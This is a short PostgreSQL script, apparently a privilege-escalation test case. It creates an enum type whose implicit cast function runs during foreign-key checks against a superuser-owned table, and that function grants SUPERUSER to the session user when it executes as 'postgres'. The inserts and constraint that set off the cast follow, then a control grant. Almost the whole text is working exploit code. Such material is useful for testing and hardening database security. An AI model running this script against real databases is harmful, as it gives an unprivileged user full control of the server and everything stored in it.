-- way: reference a superuser's table with a type of one's own, whose implicit cast runs as the owner of the referenced table
-- source: found in this project
-- control: REFERENCES on a superuser's table
-- section: application
CREATE TYPE shop.e AS ENUM ('1');
CREATE FUNCTION shop.f(shop.e) RETURNS int LANGUAGE plpgsql AS $$ BEGIN
  RAISE WARNING 'ran as % in %', current_user, current_database();
  IF current_user = 'postgres' THEN EXECUTE format('ALTER ROLE %I SUPERUSER', session_user); END IF; RETURN 1; END $$;
CREATE CAST (shop.e AS int) WITH FUNCTION shop.f(shop.e) AS IMPLICIT;
CREATE TABLE shop.t (x shop.e REFERENCES shop.items(id));
INSERT INTO shop.t VALUES ('1');
CREATE TABLE shop.t2 (x shop.e);
INSERT INTO shop.t2 VALUES ('1');
ALTER TABLE shop.t2 ADD FOREIGN KEY (x) REFERENCES shop.items(id);
-- section: again
INSERT INTO shop.t VALUES ('1');
-- section: control
GRANT REFERENCES ON shop.items TO :"access";
